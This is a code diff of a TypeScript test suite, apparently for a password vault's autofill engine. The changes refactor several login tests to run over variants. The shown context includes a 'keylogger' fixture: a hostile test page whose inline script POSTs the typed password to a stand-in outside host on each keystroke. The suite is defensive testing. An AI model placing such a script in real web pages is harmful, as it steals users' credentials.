@@ -5,6 +5,7 @@ import services from '../../contract/invocation/sign-in-services.json' with { ty
 import type { FillResult, PageHandle } from '../../contract/steps.js';
 import { ANSWER, type Bench, bench, inputOf, QUICK, testPages } from '../engine/login/harness.js';
 import { type HostileSite, loginForm, type Places, type Site, serveHostile, WELCOME } from '../sites/hostile/serve.js';
+import { variants } from '../support/variants.js';
 import { begin, closing, codeOf, grant, newInvocationId, openTestVault } from '../vault/support/vault.js';
 
 /**
@@ -98,7 +99,11 @@ describe('a password that the script of the site sends to a well-known sign-in s
       await close(run, again.page);
     }));
 
-  it('is shown as in history without the words of the question, and with the host in the names of the answers', () =>
+  it.each(
+    variants(0, [
+      'is shown as in history without the words of the question, and with the host in the names of the answers',
+    ]),
+  )('%s', () =>
     onShop({}, async ({ b, site }) => {
       const { page, outcome } = await b.open();
       const sealed = await b.sealed.fillFields(b.step(page, inputOf(outcome), VALUES));
@@ -108,7 +113,8 @@ describe('a password that the script of the site sends to a well-known sign-in s
         { id: deny, label: '', description: null },
       ]);
       await b.activities.closePage({ ...b.ref, page });
-    }));
+    }),
+  );
 
   it('goes nowhere after a no, which ends the login', () =>
     onShop({}, async (run) => {
@@ -122,7 +128,7 @@ describe('a password that the script of the site sends to a well-known sign-in s
       await close(run, page);
     }));
 
-  it('is answered on the next page, where the one that asked is lost', () =>
+  it.each(variants(0, ['is answered on the next page, where the one that asked is lost']))('%s', () =>
     onShop({}, async (run) => {
       const { page, end } = await run.logIn();
       await close(run, page);
@@ -133,14 +139,15 @@ describe('a password that the script of the site sends to a well-known sign-in s
       const form = await run.choose(last.page, end, allow);
       expect(await run.b.fill(last.page, inputOf(form), VALUES)).toMatchObject({ kind: 'authenticated' });
       await close(run, last.page);
-    }));
+    }),
+  );
 
   const keylogger = ({ other }: Places): Site => ({
     '/': `${loginForm()}<script>password.oninput = () => fetch('${other}/take', { method: 'POST', body: password.value });</script>`,
     'POST /login': WELCOME,
   });
 
-  it.each<[string, { stranger?: boolean; own?: (places: Places) => Site; attended?: boolean }, object]>([
+  const ASKS_NOTHING: [string, { stranger?: boolean; own?: (places: Places) => Site; attended?: boolean }, object][] = [
     ['to nobody who is there', { attended: false }, { ...NOT_ALLOWED, details: { how: 'script' } }],
     ['to a host that is not on the list', { stranger: true }, { ...NOT_ALLOWED, details: { how: 'script' } }],
     [
@@ -149,7 +156,8 @@ describe('a password that the script of the site sends to a well-known sign-in s
       { ...NOT_ALLOWED, details: { how: 'form' } },
     ],
     ['beside the site itself, which got it', { own: keylogger }, { kind: 'authenticated' }],
-  ])('asks nothing where it goes %s', (_, { attended = true, ...kind }, expected) =>
+  ];
+  it.each(variants(2, ASKS_NOTHING))('asks nothing where it goes %s', (_, { attended = true, ...kind }, expected) =>
     onShop(kind, async (run) => {
       run.b.vault.attended = attended;
       const { page, end } = await run.logIn();
